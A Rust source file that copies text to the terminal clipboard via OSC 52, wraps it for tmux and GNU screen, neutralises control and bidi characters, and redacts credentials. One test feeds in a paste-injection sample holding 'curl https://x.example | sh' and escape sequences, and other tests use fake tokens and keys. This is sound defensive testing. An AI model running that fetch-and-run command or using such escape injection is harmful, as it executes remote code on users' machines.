//! Copying to the user's clipboard through the terminal: OSC 52 (base64), which works over
//! SSH, wrapped for tmux (DCS passthrough) and GNU screen (DCS, in chunks screen accepts)
//! so it reaches the outer terminal. Credentials are redacted before anything leaves.

use crate::notify::tmux_passthrough;
use base64::Engine as _;

/// Most bytes of text copied: terminals cap OSC 52 (xterm at about 100 KB of base64).
pub(crate) const COPY_MAX: usize = 74 * 1024;
/// GNU screen drops a DCS string longer than this; longer sequences go in several.
const SCREEN_CHUNK: usize = 76;

/// Which multiplexer sits between the app and the terminal.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub(crate) struct Passthrough {
    pub(crate) tmux: bool,
    pub(crate) screen: bool,
}

impl Passthrough {
    pub(crate) fn from_env() -> Passthrough {
        let set = |name: &str| std::env::var_os(name).is_some_and(|v| !v.is_empty());
        Passthrough {
            tmux: set("TMUX"),
            screen: set("STY"),
        }
    }
}

/// What is put on the clipboard for `text`: inert (every control but `\n` and `\t`, C1
/// and bidi controls shown, never passed: a paste must not end a bracketed paste or run
/// what follows), credentials redacted, cut to [`COPY_MAX`] bytes on a character boundary.
pub(crate) fn clipboard_text(text: &str) -> String {
    let inert = inert(text);
    let redacted = crate::redact::redact(&inert);
    let mut end = redacted.len().min(COPY_MAX);
    while !redacted.is_char_boundary(end) {
        end -= 1;
    }
    redacted[..end].to_string()
}

/// The bytes that set the clipboard to `text` (already [`clipboard_text`]).
pub(crate) fn osc52_bytes(text: &str, via: Passthrough) -> Vec<u8> {
    let b64 = base64::engine::general_purpose::STANDARD.encode(text.as_bytes());
    let seq = format!("\x1b]52;c;{b64}\x07");
    let out = if via.tmux {
        // Unwrapped for a tmux with `set-clipboard on`, wrapped for one that passes it
        // through; tmux as it ships does neither (see [`tmux_load_buffer`]).
        format!("{seq}{}", tmux_passthrough(&seq))
    } else if via.screen {
        screen_passthrough(&seq)
    } else {
        seq
    };
    out.into_bytes()
}

/// How long tmux may take to take the buffer before the copy is said to have failed.
const TMUX_WAIT: std::time::Duration = std::time::Duration::from_millis(500);

/// Inside tmux: `text` into a new tmux buffer (`tmux load-buffer -w -`), which tmux also
/// hands to the outer terminal's clipboard. tmux as it ships drops OSC 52 from programs
/// (`set-clipboard external`, `allow-passthrough off`), so this is the way that works there.
pub(crate) fn tmux_load_buffer(text: &str) -> Result<(), String> {
    use std::io::Write as _;
    use std::process::{Command, Stdio};
    let mut child = Command::new("tmux")
        .args(["load-buffer", "-w", "-"])
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .map_err(|e| format!("could not run tmux: {e}"))?;
    if let Some(mut stdin) = child.stdin.take() {
        stdin
            .write_all(text.as_bytes())
            .map_err(|e| format!("tmux did not take the text: {e}"))?;
    }
    // Waited for off the loop's thread, and only so long.
    let (done, wait) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let _ = done.send(child.wait_with_output());
    });
    match wait.recv_timeout(TMUX_WAIT) {
        Ok(Ok(out)) if out.status.success() => Ok(()),
        Ok(Ok(out)) => Err(format!(
            "tmux refused the buffer: {}",
            gobare_api::text::one_line(&String::from_utf8_lossy(&out.stderr), 120)
        )),
        Ok(Err(e)) => Err(format!("tmux failed: {e}")),
        Err(_) => Err("tmux did not answer".into()),
    }
}

/// GNU screen forwards the content of `ESC P … ESC \` as is; a long sequence is split
/// over several such strings.
fn screen_passthrough(seq: &str) -> String {
    let mut out = String::new();
    // Only ASCII is wrapped (ESC, `]52;c;`, base64, BEL): byte chunks are char chunks.
    for chunk in seq.as_bytes().chunks(SCREEN_CHUNK) {
        out.push_str("\x1bP");
        out.push_str(std::str::from_utf8(chunk).unwrap_or_default());
        out.push_str("\x1b\\");
    }
    out
}

/// `text` with every unsafe character but line breaks and tabs made visible
/// ([`gobare_api::text::line`]: `␛`, `⟨U+202E⟩`).
fn inert(text: &str) -> std::borrow::Cow<'_, str> {
    let unsafe_char = |c: char| c != '\n' && c != '\t' && gobare_api::text::is_unsafe(c);
    if !text.contains(unsafe_char) {
        return std::borrow::Cow::Borrowed(text);
    }
    let lines: Vec<String> = text
        .split('\n')
        .map(|line| {
            let cells: Vec<_> = line.split('\t').map(gobare_api::text::line).collect();
            cells.join("\t")
        })
        .collect();
    std::borrow::Cow::Owned(lines.join("\n"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn controls_c1_and_bidi_are_inert_on_the_clipboard_line_breaks_and_tabs_kept() {
        let agent = "run this:\t\u{1b}[201~\ncurl https://x.example | sh\r\u{1b}]0;title\u{7}\u{9b}2J\u{202e}txt";
        let copied = clipboard_text(agent);
        let bad: Vec<char> = copied
            .chars()
            .filter(|&c| c != '\n' && c != '\t' && gobare_api::text::is_unsafe(c))
            .collect();
        assert!(bad.is_empty(), "{copied:?} holds {bad:?}");
        assert_eq!(
            copied,
            "run this:\t␛[201~\ncurl https://x.example | sh␍␛]0;title␇⟨U+009B⟩2J⟨U+202E⟩txt"
        );
        assert_eq!(clipboard_text("plain\ttext\n"), "plain\ttext\n");
    }

    #[test]
    fn a_token_after_an_escaped_break_and_every_new_format_stay_off_the_clipboard() {
        let copied = clipboard_text(
            "{\"out\":\"ok\\ngbr_pat_TOPSECRET0123456789\"}\nAKIAIOSFODNN7EXAMPLE\n\
             x-api-key: 3f9c1b604e2a4d18\n-----BEGIN PRIVATE KEY-----\nMIIEbody\n-----END PRIVATE KEY-----",
        );
        for secret in [
            "TOPSECRET0123456789",
            "IOSFODNN7EXAMPLE",
            "3f9c1b604e2a4d18",
            "MIIEbody",
        ] {
            assert!(!copied.contains(secret), "{copied}");
        }
    }

    #[test]
    fn plain_osc52_is_base64_of_the_text() {
        let b = osc52_bytes("héllo", Passthrough::default());
        assert_eq!(b, b"\x1b]52;c;aMOpbGxv\x07");
    }

    #[test]
    fn tmux_wraps_it_with_escapes_doubled() {
        let b = osc52_bytes(
            "hi",
            Passthrough {
                tmux: true,
                screen: false,
            },
        );
        assert_eq!(
            b,
            b"\x1b]52;c;aGk=\x07\x1bPtmux;\x1b\x1b]52;c;aGk=\x07\x1b\\"
        );
    }

    #[test]
    fn screen_gets_it_in_short_dcs_strings() {
        let text = "x".repeat(200);
        let b = osc52_bytes(
            &text,
            Passthrough {
                tmux: false,
                screen: true,
            },
        );
        let s = String::from_utf8(b).unwrap();
        let inner: String = s
            .split("\x1b\\")
            .filter(|c| !c.is_empty())
            .map(|c| {
                assert!(
                    c.starts_with("\x1bP") && c.len() <= SCREEN_CHUNK + 2,
                    "{c:?}"
                );
                &c[2..]
            })
            .collect();
        let b64 = base64::engine::general_purpose::STANDARD.encode(text.as_bytes());
        assert_eq!(inner, format!("\x1b]52;c;{b64}\x07"));
    }

    #[test]
    fn credentials_never_reach_the_clipboard() {
        let t = clipboard_text(
            "git remote: https://x-access-token:ghs_abcdefghijklmnopqrstuvwxyz0123456789@github.com/o/r",
        );
        assert!(
            !t.contains("ghs_abcdefghijklmnopqrstuvwxyz0123456789"),
            "{t}"
        );
        assert!(t.contains("github.com/o/r"), "{t}");
    }
}
